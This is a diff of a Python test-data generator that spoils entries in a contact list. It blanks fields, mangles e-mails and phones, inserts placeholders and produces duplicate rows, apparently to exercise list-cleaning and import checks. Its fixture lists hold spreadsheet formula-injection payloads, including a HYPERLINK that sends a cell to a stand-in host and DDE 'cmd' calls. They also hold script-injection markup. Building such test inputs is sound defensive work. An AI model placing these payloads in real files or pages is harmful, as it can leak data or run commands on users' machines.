@@ -1,6 +1,6 @@
-"""What goes wrong in lists. Each function spoils one entry in one way; the code under which truth knows it is its key in the tables.
+"""What goes wrong in lists: each function spoils one entry in one way; truth knows it by its key in the tables below.
 
-SPOILED damage a row. VARIED write the same person in another way, for the second row of somebody who is in the list already.
+SPOILED damages a row. VARIED writes the same person another way, for the second row of somebody who is in the list already.
 """
 
 from __future__ import annotations
@@ -11,17 +11,15 @@ from random import Random
 from generator import pools, spelling
 from generator.entries import Entry, pick_clean
 from generator.places import Phone
+from generator.pools import chance
 
 PhoneStyle = Callable[[Phone, Random], str]
 Spoil = Callable[[Entry, Random], None]
 
-_FORMULAS = [
-    '=HYPERLINK("http://evil.invalid/?x="&A1,"Click")',
-    "+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "=1+1",
-    "-2+3+cmd|' /C calc'!A0",
-]
+# Rows no contract should let through; the others are dirty but usable.
+REFUSED = frozenset({"shifted", "ragged", "formula", "placeholder", "missing_contact", "missing_name"})
+
+_FORMULAS = ['=HYPERLINK("http://evil.invalid/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]
 _MARKUP = [
     "<b>{}</b>",
     '<img src=x onerror="alert(1)">{}',
@@ -29,39 +27,38 @@ _MARKUP = [
     "{}&nbsp;&amp;&nbsp;",
     '<a href="javascript:alert(1)">{}</a>',
 ]
-_PLACEHOLDERS = [
+_PLACEHOLDERS = [  # first, last, e-mail, telephone, company
     ("asdf", "asdf", "asdf@asdf.test", "1111111111", "asdf"),
     ("test", "test", "test@test.test", "1234567890", "test"),
     ("Select", "Select", "", "", "Select"),
     ("n/a", "n/a", "n/a", "n/a", "n/a"),
-    ("Max", "Mustermann", "max@mustermann.example", "0123 456789", "Musterfirma"),
-    ("John", "Doe", "john.doe@email.example", "000-000-0000", "ACME"),
+    ("", "Max Mustermann", "max@mustermann.example", "0123 456789", "Musterfirma"),
+    ("Test", "Lead", "nobody@email.invalid", "000-000-0000", "ACME"),
     ("xxx", "xxx", "xxx@xxx.invalid", "xxx", "xxx"),
 ]
 _BAD_PHONES = ["12345", "000-000-0000", "call me", "n/a", "+1 212 55", "+49 221 47101234567890", "999999999999999", "ask reception"]
-
-# Rows no contract should let through; the others are dirty but usable.
-REFUSED = frozenset({"shifted", "ragged", "formula", "placeholder", "missing_contact", "missing_name"})
-UNUSABLE = REFUSED | {"opted_out"}
+_FIRMOGRAPHICS = ("employees", "revenue", "industry", "website", "income")
 
 
-def _set(key: str, value: str) -> Spoil:
-    def spoil(entry: Entry, _rng: Random) -> None:
-        entry.values[key] = value
+def _clear(*keys: str) -> Spoil:
+    def spoil_keys(entry: Entry, _rng: Random) -> None:
+        entry.values.update({key: "" for key in keys if key in entry.values})
 
-    return spoil
-
-
-def _clear_contact(entry: Entry, _rng: Random) -> None:
-    entry.values.update(email="", phone="")
+    return spoil_keys
 
 
-def _clear_name(entry: Entry, _rng: Random) -> None:
-    entry.values.update(first="", last="")
+def _domain(domains: list[str]) -> Spoil:
+    def move_mailbox(entry: Entry, rng: Random) -> None:
+        entry.values["email"] = f"{entry.values['email'].partition('@')[0]}@{rng.choice(domains)}"
+
+    return move_mailbox
 
 
-def _clear_firmographics(entry: Entry, _rng: Random) -> None:
-    entry.values.update({key: "" for key in ("employees", "revenue", "industry", "website", "income") if key in entry.values})
+def _damage(kind: str) -> Spoil:
+    def note(entry: Entry, _rng: Random) -> None:
+        entry.damage = kind  # type: ignore[assignment]
+
+    return note
 
 
 def _bad_phone(entry: Entry, rng: Random) -> None:
@@ -70,23 +67,17 @@ def _bad_phone(entry: Entry, rng: Random) -> None:
 
 def _bad_email(entry: Entry, rng: Random) -> None:
     local, _, domain = entry.values["email"].partition("@")
-    entry.values["email"] = rng.choice(
-        [f"{local}.{domain}", f"{local}@@{domain}", f"{local} @{domain}", f"{local}@", f"{local}@{domain}..", "n/a"]
-    )
-
-
-def _disposable(entry: Entry, rng: Random) -> None:
-    entry.values["email"] = f"{entry.values['email'].partition('@')[0]}@{rng.choice(pools.DISPOSABLE_DOMAINS)}"
-
-
-def _free(entry: Entry, rng: Random) -> None:
-    entry.values["email"] = f"{entry.values['email'].partition('@')[0]}@{rng.choice(pools.FREE_DOMAINS)}"
+    forms = [f"{local}.{domain}", f"{local}@@{domain}", f"{local} @{domain}", f"{local}@", f"{local}@{domain}..", "n/a"]
+    entry.values["email"] = rng.choice(forms)
 
 
 def _role_mailbox(entry: Entry, rng: Random) -> None:
-    language = "de" if entry.company and entry.company.place.country == "DE" else "en"
     domain = entry.values["email"].partition("@")[2]
-    entry.values["email"] = f"{rng.choice(pools.ROLE_MAILBOXES[language])}@{domain}"
+    entry.values["email"] = f"{rng.choice(pools.ROLES[_language(entry)])}@{domain}"
+
+
+def _placeholder_cell(entry: Entry, rng: Random) -> None:
+    entry.values["title"] = rng.choice(["n/a", "Select", "-", "unknown"])
 
 
 def _formula(entry: Entry, rng: Random) -> None:
@@ -106,14 +97,6 @@ def _placeholder(entry: Entry, rng: Random) -> None:
     entry.person = entry.company = None
 
 
-def _shifted(entry: Entry, _rng: Random) -> None:
-    entry.damage = "shifted"
-
-
-def _ragged(entry: Entry, _rng: Random) -> None:
-    entry.damage = "ragged"
-
-
 def _mojibake(entry: Entry, _rng: Random) -> None:
     entry.values.update({key: spelling.mojibake(entry.values[key]) for key in ("first", "last", "city")})
 
@@ -128,23 +111,25 @@ def _alias(entry: Entry, rng: Random) -> None:
 
 
 SPOILED: dict[str, Spoil] = {
-    "missing_email": _set("email", ""),
-    "missing_phone": _set("phone", ""),
-    "missing_contact": _clear_contact,
-    "missing_name": _clear_name,
-    "missing_company": _set("company", ""),
-    "missing_title": _set("title", ""),
-    "missing_firmographics": _clear_firmographics,
+    "missing_email": _clear("email"),
+    "missing_phone": _clear("phone"),
+    "missing_contact": _clear("email", "phone"),
+    "missing_name": _clear("first", "last"),
+    "missing_company": _clear("company"),
+    "missing_title": _clear("title"),
+    "missing_firmographics": _clear(*_FIRMOGRAPHICS),
     "bad_phone": _bad_phone,
     "bad_email": _bad_email,
-    "disposable_domain": _disposable,
-    "free_mailbox": _free,
+    "disposable_domain": _domain(pools.DISPOSABLE_DOMAINS),
+    "free_mailbox": _domain(pools.FREE_DOMAINS),
     "role_mailbox": _role_mailbox,
+    "placeholder_cell": _placeholder_cell,
     "formula": _formula,
     "markup": _markup,
     "placeholder": _placeholder,
-    "shifted": _shifted,
-    "ragged": _ragged,
+    "shifted": _damage("shifted"),
+    "ragged": _damage("ragged"),
+    "numeric_phone": _damage("numeric_phone"),
     "mojibake": _mojibake,
     "quoted_newline": _quoted_newline,
     "company_alias": _alias,
@@ -156,8 +141,7 @@ def _typo(entry: Entry, rng: Random) -> None:
 
 
 def _nickname(entry: Entry, rng: Random) -> None:
-    short = spelling.nickname(entry.values["first"])
-    entry.values["first"] = short if short != entry.values["first"] else spelling.misspell(short, rng)
+    entry.values["first"] = pools.NICKNAMES.get(entry.values["first"]) or spelling.misspell(entry.values["first"], rng)
 
 
 def _swap(entry: Entry, _rng: Random) -> None:
@@ -173,8 +157,7 @@ def _transliterate(entry: Entry, _rng: Random) -> None:
 
 
 def _title(entry: Entry, rng: Random) -> None:
-    language = "de" if entry.company and entry.company.place.country == "DE" else "en"
-    entry.values["title"] = rng.choice(rng.choice(pools.TITLES[language]))
+    entry.values["title"] = rng.choice(rng.choice(pools.TITLES[_language(entry)]))
 
 
 VARIED: dict[str, Spoil] = {
@@ -186,50 +169,59 @@ VARIED: dict[str, Spoil] = {
     "changed_title": _title,
     "company_alias": _alias,
 }
+_AT_WORK = ("changed_title", "company_alias")
 
 
 def spoil(entries: list[Entry], per_thousand: dict[str, int], rng: Random) -> None:
-    """Spoil so many of every thousand entries, each entry in one way at most; at least one of each kind."""
-    total = len(entries)
+    """Spoil so many of every thousand entries, each in one way at most; at least one of every kind."""
     for code, rate in per_thousand.items():
-        for entry in pick_clean(entries, max(1, round(total * rate / 1000)), rng):
-            SPOILED[code](entry, rng)
-            entry.mark(code)
+        wanted = max(1, len(entries) * rate // 1000)
+        for entry in pick_clean(entries, wanted * 5, rng):
+            if _apply(SPOILED[code], code, entry, rng):
+                wanted -= 1
+            if not wanted:
+                break
 
 
 def repeat(entries: list[Entry], exact: int, varied: int, write_phone: PhoneStyle, rng: Random) -> list[Entry]:
-    """Make further rows of people already there: word for word, and in another spelling with one key in common at least."""
-    same = [_marked(entry.copy(), "same_row") for entry in pick_clean(entries, exact, rng)]
+    """Make further rows of people already there: some word for word, some in another spelling."""
+    same = [entry.copy().mark("same_row") for entry in pick_clean(entries, exact, rng)]
     return same + [vary(entry, "same_person", write_phone, rng) for entry in pick_clean(entries, varied, rng)]
 
 
 def vary(entry: Entry, code: str, write_phone: PhoneStyle, rng: Random) -> Entry:
-    """Write the same person another way: one or two varied spellings, now and then a key gone."""
-    other = _marked(entry.copy(), code)
-    usable = [name for name in VARIED if name not in ("changed_title", "company_alias") or "company" in other.values]
+    """Write the same person another way: one or two varied spellings, now and then mailbox or telephone gone, never both."""
+    other = entry.copy().mark(code)
+    usable = [name for name in VARIED if name not in _AT_WORK or "company" in other.values]
     for name in rng.sample(usable, rng.choice([1, 1, 2])):
-        VARIED[name](other, rng)
-        other.mark(name)
-    draw = rng.random()
-    if draw < 0.15 and other.values["email"]:
-        other.values["phone"] = ""
-    elif draw < 0.3 and other.values["phone"]:
-        other.values["email"] = ""
-    elif other.person and other.person.phone and other.values["phone"]:
-        other.values["phone"] = write_phone(other.person.phone, rng)
+        _apply(VARIED[name], name, other, rng)
+    values, phone = other.values, other.person.phone if other.person else None
+    if phone and values["phone"]:
+        values["phone"] = write_phone(phone, rng)
+        if values["email"] and chance(rng, 0.3):
+            values[rng.choice(["email", "phone"])] = ""
     return other
 
 
-def _marked(entry: Entry, code: str) -> Entry:
-    entry.mark(code)
-    return entry
+def _apply(change: Spoil, code: str, entry: Entry, rng: Random) -> bool:
+    """Change the entry and mark it, unless nothing came of it: no umlaut to spell out."""
+    before = dict(entry.values)
+    change(entry, rng)
+    changed = bool(entry.damage) or entry.values != before
+    if changed:
+        entry.mark(code)
+    return changed
 
 
 def damage(cells: list[str], kind: str, rng: Random) -> list[str]:
     """Spoil finished cells: moved by one to the left or right from somewhere on, or too few or too many of them."""
     at = rng.randrange(1, 5)
     if kind == "shifted":
-        return [*cells[:at], "", *cells[at:-1]] if rng.random() < 0.5 else [*cells[:at], *cells[at + 1 :], ""]
+        return rng.choice([[*cells[:at], "", *cells[at:-1]], [*cells[:at], *cells[at + 1 :], ""]])
     if kind == "ragged":
-        return cells[:-at] if rng.random() < 0.5 else [*cells, *["extra"] * at]
+        return rng.choice([cells[:-at], [*cells, *["extra"] * at]])
     return cells
+
+
+def _language(entry: Entry) -> str:
+    return entry.company.language if entry.company else "en"
